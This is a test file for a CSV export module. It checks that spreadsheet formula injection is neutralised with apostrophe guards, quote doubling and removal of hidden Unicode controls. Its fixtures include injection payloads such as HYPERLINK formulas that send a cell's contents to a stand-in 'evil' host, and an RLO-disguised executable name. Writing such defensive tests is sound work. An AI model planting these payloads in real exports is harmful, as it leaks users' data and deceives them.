// Tests the CSV writing every analytics file uses (src/render/csv.ts): one field at a time (empty
// for a missing value, numbers and booleans as written, text always quoted, an apostrophe before a
// formula wherever a spreadsheet could start a cell), and a whole file with its header and CRLF line
// ends, as a reader splitting on `,` or on `;` gets it.
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvField, csvOf, guardFormulas } from '../../../src/render/csv.js'

describe('csvField', () => {
  it('is empty for a missing value, and two quotes for empty text', () => {
    expect([null, undefined, ''].map(csvField)).toEqual(['', '', '""'])
  })

  it('writes numbers and booleans as JavaScript does, unquoted, negative numbers included', () => {
    expect([0, 42, -1, -0.5, 1.25, 1e21, Number.NaN, true, false].map(csvField)).toEqual([
      '0',
      '42',
      '-1',
      '-0.5',
      '1.25',
      '1e+21',
      'NaN',
      'true',
      'false'
    ])
  })

  it('quotes every text, and leaves text without a formula as it is inside the quotes', () => {
    expect(['/docs/api', 'how to install', "it's", 'a=b', 'a+b-c@d', 'x\t', "'=x", 'x;y', 'a =b'].map(csvField)).toEqual([
      '"/docs/api"',
      '"how to install"',
      '"it\'s"',
      '"a=b"',
      '"a+b-c@d"',
      '"x\t"',
      '"\'=x"',
      '"x;y"',
      '"a =b"'
    ])
  })

  it('puts an apostrophe before text a spreadsheet would run as a formula', () => {
    expect(['=cmd', '+1', '-1', '@x', '\tx', '=', '-', '@SUM(A1)'].map(csvField)).toEqual([
      '"\'=cmd"',
      '"\'+1"',
      '"\'-1"',
      '"\'@x"',
      '"\'\tx"',
      '"\'="',
      '"\'-"',
      '"\'@SUM(A1)"'
    ])
  })

  it('doubles each quote', () => {
    expect(['a"b', 'a,b', 'a\rb', 'a\nb', 'say "hi" and "bye"', '"', '\nx'].map(csvField)).toEqual([
      '"a""b"',
      '"a,b"',
      '"a\rb"',
      '"a\nb"',
      '"say ""hi"" and ""bye"""',
      '""""',
      '"\nx"'
    ])
  })

  it('guards a formula after any separator a spreadsheet may split on, and after a line break', () => {
    expect(['a,=1', 'a;+1', 'a\t-1', 'a\r@x', 'a\n=1', 'a\r\n=1', 'a;;=1', ';=1'].map(csvField)).toEqual([
      '"a,\'=1"',
      '"a;\'+1"',
      '"a\t\'-1"',
      '"a\r\'@x"',
      '"a\n\'=1"',
      '"a\r\n\'=1"',
      '"a;;\'=1"',
      '";\'=1"'
    ])
  })

  it('guards a formula behind the spaces and quotes a spreadsheet may drop from the start of a cell', () => {
    expect([' =x', 'a; =1', 'a;"=1"', 'a; " "@x', '""+1'].map(csvField)).toEqual([
      '" \'=x"',
      '"a; \'=1"',
      '"a;""\'=1"""',
      '"a; "" ""\'@x"',
      '"""""\'+1"'
    ])
  })

  it('guards a tab or a carriage return that starts a cell, and the cell it starts in turn', () => {
    expect(['\t=1', 'a;\t\r+1', '\rx'].map(csvField)).toEqual(['"\'\t\'=1"', "\"a;'\t'\r'+1\"", '"\'\rx"'])
  })

  it('leaves formula characters inside a cell alone', () => {
    expect(['a=1', 'x;a=1', 'x, a-b', 'me@example.com'].map(csvField)).toEqual(['"a=1"', '"x;a=1"', '"x, a-b"', '"me@example.com"'])
  })

  it('quotes a guarded formula, the apostrophe inside the quotes', () => {
    expect(['\rx', '=HYPERLINK("https://evil.example","x")', '+a,b'].map(csvField)).toEqual([
      '"\'\rx"',
      '"\'=HYPERLINK(""https://evil.example"",""x"")"',
      '"\'+a,b"'
    ])
  })
})

describe('csvField and what disguises text', () => {
  it('drops bidirectional controls and zero-width characters from text', () => {
    expect(csvField('invoice_\u202egpj.exe')).toBe('"invoice_gpj.exe"')
    expect(csvField('a\u200bb\u2066c\ufeff')).toBe('"abc"')
  })

  it('guards the full-width and small forms of a formula start as well', () => {
    for (const start of ['＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫']) expect(csvField(`${start}1+1`)).toBe(`"'${start}1+1"`)
  })
})

describe('guardFormulas', () => {
  it('is what a field holds between its quotes', () => {
    expect(guardFormulas('help;=HYPERLINK("http://evil/"&A2);')).toBe('help;\'=HYPERLINK("http://evil/"&A2);')
    expect(guardFormulas('plain text')).toBe('plain text')
    expect(guardFormulas('')).toBe('')
  })
})

describe('csvOf', () => {
  it('writes the header and one line per row, each line ending in CRLF', () => {
    expect(
      csvOf(
        ['path', 'count', 'helpful', 'note'],
        [
          ['/a', 1, true, 'ok'],
          ['/b,c', -2.5, false, null],
          ['=x', 0, undefined, 'say "hi"']
        ]
      )
    ).toBe('path,count,helpful,note\r\n"/a",1,true,"ok"\r\n"/b,c",-2.5,false,\r\n"\'=x",0,,"say ""hi"""\r\n')
  })

  it('is only the header without rows', () => {
    expect(csvOf(['a', 'b'], [])).toBe('a,b\r\n')
    expect(csvOf(['only'], [])).toBe('only\r\n')
  })

  it('takes its rows from any iterable, read once', () => {
    function* rows(): Generator<string[]> {
      yield ['1', '2']
      yield ['3', '4']
    }
    expect(csvOf(['a', 'b'], rows())).toBe('a,b\r\n"1","2"\r\n"3","4"\r\n')
  })

  it('reads back, in a CSV reader, as the fields it was given', () => {
    const rows = [
      ['line\r\nbreak', 'comma, "quoted"', ''],
      ['=1+1', '@me', 'plain']
    ]
    expect(parse(csvOf(['x', 'y', 'z'], rows))).toEqual([
      ['x', 'y', 'z'],
      ['line\r\nbreak', 'comma, "quoted"', ''],
      ["'=1+1", "'@me", 'plain']
    ])
  })

  // The reproductions of a search query that ran as a formula where `;` separates cells.
  const ATTACKS = ['help;=HYPERLINK("http://evil/"&A2);', 'pricing;=10*10;']

  it('opens with no formula in any cell when a spreadsheet splits its lines on `;`', () => {
    const csv = csvOf(['query', 'hits'], [...ATTACKS.map((query) => [query, 5]), [3, ATTACKS[1]]])
    expect(csv).toBe('query,hits\r\n"help;\'=HYPERLINK(""http://evil/""&A2);",5\r\n"pricing;\'=10*10;",5\r\n3,"pricing;\'=10*10;"\r\n')
    // Split on every `;`, quotes or not: the cells of any spreadsheet that splits on `;` are among these.
    const cells = (parse(csv, { delimiter: ';', quote: false, relax_column_count: true }) satisfies string[][]).flat()
    expect(cells).toContain("'=10*10")
    for (const cell of cells) expect(cell.replace(/^[ "]+/, '')).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('reads back each query, with its apostrophes, in a reader that splits on `,`', () => {
    expect(
      parse(
        csvOf(
          ['query'],
          ATTACKS.map((query) => [query])
        )
      )
    ).toEqual([['query'], ['help;\'=HYPERLINK("http://evil/"&A2);'], ["pricing;'=10*10;"]])
  })
})
